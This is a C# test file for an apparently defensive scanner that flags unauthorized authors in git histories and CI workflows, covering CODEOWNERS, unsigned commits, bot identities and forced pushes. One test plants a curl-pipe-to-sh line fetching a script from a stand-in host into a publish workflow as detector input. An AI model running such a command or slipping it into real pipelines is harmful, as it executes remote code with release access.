using System.Text.Json.Nodes;
using PipeWatch.Findings;
using PipeWatch.Sources.Git;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.CodeChange;

public sealed class UnauthorizedAuthorDetectorTests : IDisposable
{
    private static readonly DateTime Tuesday = CodeChangeHistory.Start.AddDays(43);

    private readonly TempFolder _temp = new();

    [Fact]
    public void A_first_commit_by_a_new_author_at_a_usual_hour_is_reported_naming_the_known_authors()
    {
        var history = new CodeChangeHistory().Normal();

        var commit = history.Commit(CodeChangeHistory.At("Mallory", Tuesday, 10, 5, TimeSpan.FromHours(1)), ("src/alice/module.txt", "rewritten\n"));

        var finding = Assert.Single(history.Findings);
        Assert.Equal((Categories.UnauthorizedAuthor, "code-change.unauthorized-author", Severity.Medium, commit.Sha), (finding.Category, finding.Rule, finding.Severity, finding.Location.Commit));
        Assert.Equal(
            "Mallory <mallory@example.com> never committed to 'octo-org/octo-repo' before: its 92 earlier commits were by 3 author(s) (alice@example.com ×31, carol@example.com ×31, bob@example.com ×30).",
            finding.Explanation);
        Assert.Equal($"First commit {commit.Sha[..12]} to 'octo-org/octo-repo' by a new author, Mallory <mallory@example.com>", finding.Title);
    }

    [Fact]
    public void An_unsigned_commit_in_a_signed_history_is_reported()
    {
        var history = new CodeChangeHistory();
        history.Bench.Signature = SignatureState.Signed;
        history.Normal();
        history.Bench.Signature = SignatureState.Unsigned;

        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 20, TimeSpan.FromHours(-5)), ("src/bob/module.txt", "small change\n"));

        var finding = Assert.Single(history.Findings);
        Assert.Equal("The commit is unsigned, while 92 of the repository's 92 earlier checked commits were signed.", finding.Explanation);
    }

    [Fact]
    public void A_change_outside_the_allowlist_for_workflows_is_high()
    {
        const string config = """
            detectors:
              code-change.unauthorized-author:
                authors:
                  - repository: octo-org/*
                    paths: [".github/**"]
                    allow: [alice@example.com]
            """;
        var history = new CodeChangeHistory(config).Normal();

        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 20, TimeSpan.FromHours(-5)),
            (CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow.Replace("make test", "make test-all", StringComparison.Ordinal)));

        var finding = Assert.Single(history.Findings);
        Assert.Equal((Severity.High, CodeChangeHistory.Workflow), (finding.Severity, finding.Location.File));
        Assert.Equal(
            "The author Bob <bob@example.com> is not allowed to change .github/workflows/ci.yml in 'octo-org/octo-repo': pipewatch.yml allows only alice@example.com for .github/**.",
            finding.Explanation);
    }

    [Fact]
    public void Codeowners_brought_in_by_a_commit_are_honoured_per_path()
    {
        var history = new CodeChangeHistory().Normal();
        history.Commit(CodeChangeHistory.At("Alice", Tuesday, 10, 0, TimeSpan.FromHours(1)), (".github/CODEOWNERS", "# owners\n/infra/ alice@example.com\n*.md @carol\n"));
        Assert.Empty(history.Findings);

        history.Commit(CodeChangeHistory.At("Carol", Tuesday, 14, 10, new TimeSpan(5, 30, 0)), ("docs/guide.md", "guide\n"));
        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 20, TimeSpan.FromHours(-5)), ("infra/main.tf", "resource \"x\" \"y\" {}\n"));

        var finding = Assert.Single(history.Findings);
        Assert.Equal(
            "CODEOWNERS gives infra/main.tf (rule '/infra/') to alice@example.com, and the author Bob <bob@example.com> is none of them.",
            finding.Explanation);
    }

    [Fact]
    public void Codeowners_rewritten_by_a_later_commit_govern_the_same_path_from_then_on()
    {
        // The detector keeps the last parsed CODEOWNERS and its answer per path while commits carry the same text: a rewrite
        // must replace both, or Bob would still be a stranger to infra/ after Alice made him an owner.
        var history = new CodeChangeHistory().Normal();
        history.Commit(CodeChangeHistory.At("Alice", Tuesday, 10, 0, TimeSpan.FromHours(1)), (".github/CODEOWNERS", "/infra/ alice@example.com\n"));
        var before = history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 20, TimeSpan.FromHours(-5)), ("infra/main.tf", "resource \"x\" \"y\" {}\n"));
        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 40, TimeSpan.FromHours(-5)), ("infra/main.tf", "resource \"x\" \"z\" {}\n"));
        history.Commit(CodeChangeHistory.At("Alice", Tuesday, 12, 0, TimeSpan.FromHours(1)), (".github/CODEOWNERS", "/infra/ alice@example.com bob@example.com\n"));
        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 13, 20, TimeSpan.FromHours(-5)), ("infra/main.tf", "resource \"x\" \"w\" {}\n"));

        Assert.Equal(2, history.Findings.Count);
        Assert.Equal(before.Sha, history.Findings[0].Location.Commit);
        Assert.All(history.Findings, f => Assert.Equal(
            "CODEOWNERS gives infra/main.tf (rule '/infra/') to alice@example.com, and the author Bob <bob@example.com> is none of them.", f.Explanation));
    }

    [Fact]
    public void A_login_owner_that_cannot_be_matched_to_the_authors_address_is_unknown_not_someone_else()
    {
        var history = new CodeChangeHistory().Normal();
        history.Commit(CodeChangeHistory.At("Alice", Tuesday, 10, 0, TimeSpan.FromHours(1)), (".github/CODEOWNERS", "/infra/ @platform-lead\n"));

        // A git author is a name and an address: whether bob@example.com is @platform-lead cannot be told from the commit.
        history.Commit(CodeChangeHistory.At("Bob", Tuesday, 11, 20, TimeSpan.FromHours(-5)), ("infra/main.tf", "resource \"x\" \"y\" {}\n"));
        Assert.Empty(history.Findings);

        // A GitHub no-reply address names its login: @bob is not @platform-lead.
        var bob = new GitIdentity("Bob", "4120+bob@users.noreply.github.com", new DateTimeOffset(Tuesday.AddHours(12), TimeSpan.FromHours(-5)));
        history.Commit(bob, ("infra/main.tf", "resource \"x\" \"z\" {}\n"));
        var finding = Assert.Single(history.Findings);
        Assert.StartsWith("CODEOWNERS gives infra/main.tf (rule '/infra/') to @platform-lead, and the author Bob <4120+bob@users.noreply.github.com> is none of them.", finding.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_codeowners_file_on_an_unmerged_branch_governs_that_branch_only()
    {
        using var repo = new TestRepository();
        var day = TestRepository.Start;
        repo.Write("README.md", "app\n").Commit("readme", "Alice <alice@example.com>", day);
        repo.Checkout("owners", create: true);
        repo.Write(".github/CODEOWNERS", "* alice@example.com\n").Commit("owners", "Alice <alice@example.com>", day.AddHours(1));
        repo.Checkout("main");
        var onMain = repo.Write("src/app.py", "print('hi')\n").Commit("app", "Bob <bob@example.com>", day.AddHours(2));
        repo.Checkout("owners");
        var onBranch = repo.Write("src/tool.py", "print('tool')\n").Commit("tool", "Bob <bob@example.com>", day.AddHours(3));

        var result = await Scan.RunAsync(repo.Path, GitSelection.Default with { All = true });

        var finding = Assert.Single(result.Findings, f => f.Category == Categories.UnauthorizedAuthor);
        Assert.Equal(onBranch, finding.Location.Commit);
        Assert.NotEqual(onMain, finding.Location.Commit);
        Assert.StartsWith("CODEOWNERS gives src/tool.py (rule '*') to alice@example.com", finding.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void A_dependency_bot_changing_a_workflow_for_the_first_time_is_reported()
    {
        var history = new CodeChangeHistory().Normal();
        for (var i = 0; i < 5; i++)
        {
            history.Commit(CodeChangeHistory.At("dependabot[bot]", Tuesday.AddDays(-i), 4, 0, TimeSpan.Zero), ("package.json", $"{{\"version\": \"1.0.{i}\"}}\n"));
        }

        Assert.Empty(history.Findings);
        history.Commit(CodeChangeHistory.At("dependabot[bot]", Tuesday, 4, 0, TimeSpan.Zero),
            (CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow.Replace("make build", "make build-all", StringComparison.Ordinal)));

        var finding = Assert.Single(history.Findings);
        Assert.StartsWith("The machine identity dependabot[bot] <dependabot[bot]@example.com> changed .github/workflows/ci.yml, which it never did before", finding.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void A_dependency_bot_moving_the_ref_of_an_action_a_workflow_uses_is_a_dependency_update_and_its_first_script_change_is_still_reported()
    {
        // Dependabot's "Bump actions/checkout from 4.2.2 to 4.3.0" (github-actions ecosystem): one uses: line and its version comment.
        var history = new CodeChangeHistory().Normal();
        for (var i = 0; i < 5; i++)
        {
            history.Commit(CodeChangeHistory.At("dependabot[bot]", Tuesday.AddDays(-i), 4, 0, TimeSpan.Zero), ("package.json", $"{{\"version\": \"1.0.{i}\"}}\n"));
        }

        var bumped = CodeChangeHistory.CleanWorkflow.Replace(
            "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "actions/checkout@08eba0b27e820071cde6df949e0beb9ba4906955 # v4.3.0", StringComparison.Ordinal);
        history.Commit(CodeChangeHistory.At("dependabot[bot]", Tuesday, 4, 0, TimeSpan.Zero), (CodeChangeHistory.Workflow, bumped));
        Assert.DoesNotContain(history.Findings, f => f.Category == Categories.UnauthorizedAuthor);

        history.Commit(CodeChangeHistory.At("dependabot[bot]", Tuesday.AddDays(1), 4, 0, TimeSpan.Zero),
            (CodeChangeHistory.Workflow, bumped.Replace("make build", "make build-all", StringComparison.Ordinal)));
        Assert.StartsWith(
            "The machine identity dependabot[bot] <dependabot[bot]@example.com> changed .github/workflows/ci.yml, which it never did before",
            Assert.Single(history.Findings, f => f.Category == Categories.UnauthorizedAuthor).Explanation, StringComparison.Ordinal);
    }

    // psf/requests' shape: CODEOWNERS gives the workflows to two maintainers by handle, and Dependabot's github-actions updates
    // (its documented identity, committed by a maintainer) move one pinned SHA and its quoted form.
    private const string Publish = """
        name: Publish
        on:
          release:
            types: [published]
        jobs:
          build:
            runs-on: ubuntu-latest
            steps:
              - uses: "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683"
              - name: "Build dists"
                run: |
                  python -m pip install build
                  python -m build
              - name: "Upload dists"
                uses: "actions/upload-artifact@b7c566a772e6b6bfb58ed0dc250532a479d7789f"
                with:
                  name: "dist"
                  path: "dist/"

        """;

    private const string Dependabot = "dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com>";

    private static async Task<List<Finding>> ScanOwnedWorkflowAsync(string author, string changed)
    {
        using var repo = new TestRepository();
        repo.Write(".github/CODEOWNERS", "# Maintainers\n.github/workflows/ @nateprewitt @sigmavirus24\n").Write(".github/workflows/publish.yml", Publish)
            .Commit("publish workflow", "Nate Prewitt <nate.prewitt@gmail.com>");
        repo.Write(".github/workflows/publish.yml", changed).Commit("Bump actions/upload-artifact from 6.0.0 to 7.0.0", author);
        var result = await Scan.RunAsync(repo.Path);
        return [.. result.Findings.Where(f => f.Category == Categories.UnauthorizedAuthor)];
    }

    private static readonly string Bumped = Publish.Replace("b7c566a772e6b6bfb58ed0dc250532a479d7789f", "bbbca2ddaa5d8feaa63e36b76fdaad77386f024f", StringComparison.Ordinal);

    [Fact]
    public async Task Dependabot_moving_a_pinned_action_in_a_workflow_codeowners_gives_to_maintainers_is_a_dependency_update()
    {
        Assert.Empty(await ScanOwnedWorkflowAsync(Dependabot, Bumped));
    }

    [Fact]
    public async Task The_dependabot_identity_changing_what_a_step_runs_is_still_not_authorized()
    {
        var changed = Bumped.Replace("python -m build", "python -m build && curl -sSf https://x.example/i.sh | sh", StringComparison.Ordinal);

        var finding = Assert.Single(await ScanOwnedWorkflowAsync(Dependabot, changed));

        Assert.Equal(Severity.Medium, finding.Severity);
        Assert.Equal(
            "CODEOWNERS gives .github/workflows/publish.yml (rule '.github/workflows/') to @nateprewitt @sigmavirus24, and the author dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com> is none of them. "
            + "The machine identity dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com> changed .github/workflows/publish.yml, which it never did before: bots update dependencies, people change pipelines.",
            finding.Explanation);
    }

    [Fact]
    public async Task A_bot_name_with_another_accounts_address_moving_a_pinned_action_is_still_judged_against_codeowners()
    {
        // The name is Dependabot's, the no-reply address another account's (the documented one is 49699333+dependabot[bot]).
        var finding = Assert.Single(await ScanOwnedWorkflowAsync("dependabot[bot] <50123456+dependabot[bot]@users.noreply.github.com>", Bumped));

        Assert.Equal(
            "CODEOWNERS gives .github/workflows/publish.yml (rule '.github/workflows/') to @nateprewitt @sigmavirus24, and the author dependabot[bot] <50123456+dependabot[bot]@users.noreply.github.com> is none of them.",
            finding.Explanation);
    }

    [Fact]
    public async Task A_push_by_someone_who_is_neither_author_nor_committer_is_reported_from_the_webhook()
    {
        var payload = JsonNode.Parse(await File.ReadAllTextAsync(Corpus.File("github-webhooks", "push", "with-new-branch.payload.json"), TestContext.Current.CancellationToken))!;
        payload["pusher"] = new JsonObject { ["name"] = "mallory", ["email"] = "mallory@example.net" };
        payload["sender"]!["login"] = "mallory";
        var path = _temp.File("push.json");
        await File.WriteAllTextAsync(path, payload.ToJsonString(), TestContext.Current.CancellationToken);

        var result = await Ingest.RunAsync(_temp.File("store.db"), [path]);

        var finding = Assert.Single(result.Findings);
        Assert.Equal(("code-change.unauthorized-author", "6113728f27ae82c7b1a177c8d03f9e96e0adf246"), (finding.Rule, finding.Location.Commit));
        Assert.Equal(
            "It was pushed by mallory <mallory@example.net>, who is neither its author (Codertocat <21031067+Codertocat@users.noreply.github.com>) nor its committer (Codertocat <21031067+Codertocat@users.noreply.github.com>).",
            finding.Explanation);
    }

    [Fact]
    public async Task A_forced_push_to_the_default_branch_is_high()
    {
        var payload = JsonNode.Parse(await File.ReadAllTextAsync(Corpus.File("github-webhooks", "push", "with-new-branch.payload.json"), TestContext.Current.CancellationToken))!;
        payload["forced"] = true;
        var path = _temp.File("forced.json");
        await File.WriteAllTextAsync(path, payload.ToJsonString(), TestContext.Current.CancellationToken);

        var result = await Ingest.RunAsync(_temp.File("store.db"), [path]);

        var finding = Assert.Single(result.Findings);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal("It came in a forced push to the default branch 'master' by Codertocat <21031067+Codertocat@users.noreply.github.com>, which rewrote that branch's history.", finding.Explanation);
    }

    [Fact]
    public async Task The_corpus_push_by_its_own_author_raises_nothing()
    {
        var result = await Ingest.RunAsync(_temp.File("store.db"), [Corpus.File("github-webhooks", "push", "with-new-branch.payload.json"), Corpus.File("gitlab-webhooks", "push.json")]);

        Assert.Empty(result.Findings);
    }

    public void Dispose() => _temp.Dispose();
}
